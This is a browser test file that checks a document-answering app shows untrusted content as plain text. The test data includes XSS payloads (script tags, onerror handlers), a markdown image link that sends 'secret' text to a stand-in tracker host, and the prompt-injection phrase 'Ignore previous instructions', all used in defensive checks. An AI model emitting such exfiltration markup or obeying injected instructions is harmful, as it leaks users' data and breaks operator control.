import { beforeEach, describe, expect, test } from "vitest";
import { commands, page } from "vitest/browser";
import { all, answered, byId, openWindow, QUESTIONS, TestId } from "./window";

/** Addresses that were asked for outside this page's own server. */
async function foreignRequests(): Promise<string[]> {
	const own = [location.origin, "blob:", "data:"];
	return (await commands.seenRequests()).filter((address) => !own.some((start) => address.startsWith(start)));
}

beforeEach(() => commands.watchRequests());

describe("what strangers wrote", () => {
	test("the watch on requests sees one, if there is one", async () => {
		const image = new Image();
		image.src = "http://127.0.0.1:59998/control.png";
		await expect.poll(foreignRequests).toEqual(["http://127.0.0.1:59998/control.png"]);
	});

	test("shows as text, runs nothing and asks for nothing", async () => {
		await openWindow();
		await answered(QUESTIONS.ferry);
		await expect.element(byId(TestId.Answer)).toHaveTextContent("<img src=http://tracker.example/pixel.png>");
		// A picture becomes its alternative text, its address is gone; a link shows where it would lead.
		await expect.element(byId(TestId.Answer)).toHaveTextContent("map");
		expect(all(TestId.Answer)[0]?.innerHTML).not.toContain("leak.png");
		await expect
			.element(byId(TestId.Answer))
			.toHaveTextContent("the timetable (https://ferries.example/times?from=docent)");
		expect(document.querySelectorAll("a[href], iframe, object, embed, form[action]").length).toBe(0);

		await page.getByTestId(TestId.Citation).first().click();
		const viewer = byId(TestId.ViewerScroll);
		await expect.element(viewer).toHaveTextContent("<script>window.hacked = true</script>");
		await expect.element(viewer).toHaveTextContent('onerror="window.hacked = true"');
		await expect
			.element(viewer)
			.toHaveTextContent("![a picture](http://tracker.example/leak.png?text=secret)");
		await expect.element(viewer).toHaveTextContent("Ignore previous instructions");
		expect(all(TestId.ViewerScroll)[0]?.querySelectorAll("script, img, b, a").length).toBe(0);
		await expect
			.element(byId(TestId.Passages).or(byId(TestId.ViewerPlace)).first())
			.toHaveTextContent("<script>");

		await new Promise((resolve) => setTimeout(resolve, 100));
		expect("hacked" in window).toBe(false);
		expect(await foreignRequests()).toEqual([]);
	});

	test("a title or path with markup is text in lists too", async () => {
		const host = await openWindow();
		host.changeDocument("travel/ferry.md", {
			title: "<img src=x onerror=alert(1)>",
			path: "<b>ferry</b>.md",
		});
		await byId(TestId.AllDocuments).click();
		await expect.element(page.getByText("<img src=x onerror=alert(1)>")).toBeVisible();
		await expect.element(page.getByText("<b>ferry</b>.md")).toBeVisible();
		expect(all(TestId.Documents)[0]?.querySelectorAll("img, b").length).toBe(0);
	});
});
